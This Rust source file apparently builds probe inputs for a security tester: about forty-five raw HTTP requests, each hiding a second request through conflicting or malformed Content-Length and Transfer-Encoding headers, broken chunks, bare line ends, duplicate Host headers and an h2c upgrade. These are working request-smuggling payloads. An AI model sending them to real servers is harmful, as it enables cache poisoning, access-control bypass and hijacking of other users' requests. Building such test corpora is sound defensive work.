//! Requests whose end two servers see in different places.

use super::Inputs;

/// The path of the second request that is hidden in the inputs of [`http_framing`].
pub const SMUGGLED: &str = "/smuggled";

/// Requests, as they go over the wire, whose end two servers see in different places (CWE-444).
///
/// Both lengths of a body at once, lengths that come twice or are written in another way, spellings of
/// `Transfer-Encoding` that one server takes and another does not, broken chunks, line ends by one character, folded
/// headers, spaces around names, and bodies where none is expected. A request for [`SMUGGLED`] is hidden in each body.
/// Write it to a connection, and ask whether a second answer comes, or whether the server behind has seen the path.
#[must_use]
pub fn http_framing() -> Inputs {
    let hidden = format!("GET {SMUGGLED} HTTP/1.1\r\nHost: x\r\n\r\n");
    let length = hidden.len();
    let post = |headers: &str, body: &str| format!("POST / HTTP/1.1\r\nHost: x\r\n{headers}\r\n{body}");
    let chunked = format!("0\r\n\r\n{hidden}");
    let in_chunks = |body: &str| post("Transfer-Encoding: chunked\r\n", body);
    let get = |headers: &str| format!("GET / HTTP/1.1\r\n{headers}\r\n{hidden}");
    let upgrade = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n";
    let beyond = u128::from(u64::MAX) + 1 + u128::try_from(length).unwrap_or(0);
    let whole = chunked.len();
    let one_chunk = format!("{length:x}\r\n{hidden}\r\n0\r\n\r\n");
    let both = |coding: &str| post(&format!("Content-Length: {}\r\n{coding}\r\n", chunked.len()), &chunked);
    Inputs::texts([
        ("both lengths", both("Transfer-Encoding: chunked")),
        (
            "both lengths, the other way round",
            post(&format!("Transfer-Encoding: chunked\r\nContent-Length: {whole}\r\n"), &chunked),
        ),
        ("short length before chunks", post("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", &one_chunk)),
        ("coding with a space before the colon", both("Transfer-Encoding : chunked")),
        ("coding with a tab", both("Transfer-Encoding:\tchunked")),
        ("coding folded", both("Transfer-Encoding:\r\n chunked")),
        ("coding twice", both("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked")),
        ("coding that is not the last", both("Transfer-Encoding: chunked, identity")),
        ("coding in a list", both("Transfer-Encoding: gzip, chunked")),
        ("coding that is none", both("Transfer-Encoding: xchunked")),
        ("coding in capitals", both("TRANSFER-ENCODING: CHUNKED")),
        ("coding in quotes", both("Transfer-Encoding: \"chunked\"")),
        ("coding with a vertical tab", both("Transfer-Encoding: \u{b}chunked")),
        ("coding behind a space", both(" Transfer-Encoding: chunked")),
        ("coding behind a line end alone", both("X: x\nTransfer-Encoding: chunked")),
        ("coding behind a carriage return alone", both("X: x\rTransfer-Encoding: chunked")),
        ("coding with underscores", both("Transfer_Encoding: chunked")),
        ("coding in HTTP/1.0", both("Transfer-Encoding: chunked").replacen("HTTP/1.1", "HTTP/1.0", 1)),
        ("length twice", post(&format!("Content-Length: 0\r\nContent-Length: {length}\r\n"), &hidden)),
        ("length in a list", post(&format!("Content-Length: 0, {length}\r\n"), &hidden)),
        ("length with a sign", post(&format!("Content-Length: +{length}\r\n"), &hidden)),
        ("length with zeros", post(&format!("Content-Length: 000{length}\r\n"), &hidden)),
        ("length in hexadecimal", post(&format!("Content-Length: {length:#x}\r\n"), &hidden)),
        ("length that is negative", post("Content-Length: -1\r\n", &hidden)),
        ("length beyond 64 bits", post(&format!("Content-Length: {beyond}\r\n"), &hidden)),
        ("length with a space within", post("Content-Length: 0 0\r\n", &hidden)),
        ("length that is empty", post("Content-Length: \r\n", &hidden)),
        ("length of zero with a body", post("Content-Length: 0\r\n", &hidden)),
        ("no length", post("", &hidden)),
        ("body of GET", get(&format!("Host: x\r\nContent-Length: {length}\r\n"))),
        ("chunk with a long extension", in_chunks(&format!("0;{}\r\n\r\n{hidden}", "x".repeat(10_000)))),
        ("chunk with a line end in its extension", in_chunks(&format!("5;x\nabcde\r\n{chunked}"))),
        ("chunk with a sign", in_chunks(&format!("+{length:x}\r\n{hidden}\r\n0\r\n\r\n"))),
        ("chunk with a prefix", in_chunks(&format!("0x{length:x}\r\n{hidden}\r\n0\r\n\r\n"))),
        ("chunk with an underscore", in_chunks(&format!("0_0\r\n\r\n{hidden}"))),
        ("chunk whose size overflows", in_chunks(&format!("10000000000000000\r\n\r\n{hidden}"))),
        ("chunk without its line end", in_chunks(&format!("1\r\naX0\r\n\r\n{hidden}"))),
        ("chunks with line ends alone", in_chunks(&format!("1\na\n0\n\n{hidden}"))),
        ("header behind the body", in_chunks(&format!("0\r\nContent-Length: 0\r\nHost: y\r\n\r\n{hidden}"))),
        ("line ends alone", format!("GET / HTTP/1.1\nHost: x\n\n{hidden}")),
        ("host twice", get("Host: x\r\nHost: attacker.example\r\n")),
        ("host in the line", format!("GET http://attacker.example/ HTTP/1.1\r\nHost: x\r\n\r\n{hidden}")),
        ("NUL in a header", both("X: \0\r\nTransfer-Encoding: chunked")),
        ("version that is none", format!("GET / HTTP/1.9\r\nHost: x\r\nContent-Length: {length}\r\n\r\n{hidden}")),
        ("upgrade", get(&format!("Host: x\r\n{upgrade}"))),
    ])
}

#[cfg(test)]
mod tests {
    #[test]
    fn each_hides_the_second_request() {
        for input in &super::http_framing() {
            assert_eq!(input.matches(super::SMUGGLED).count(), 1, "{}", input.label());
        }
    }
}
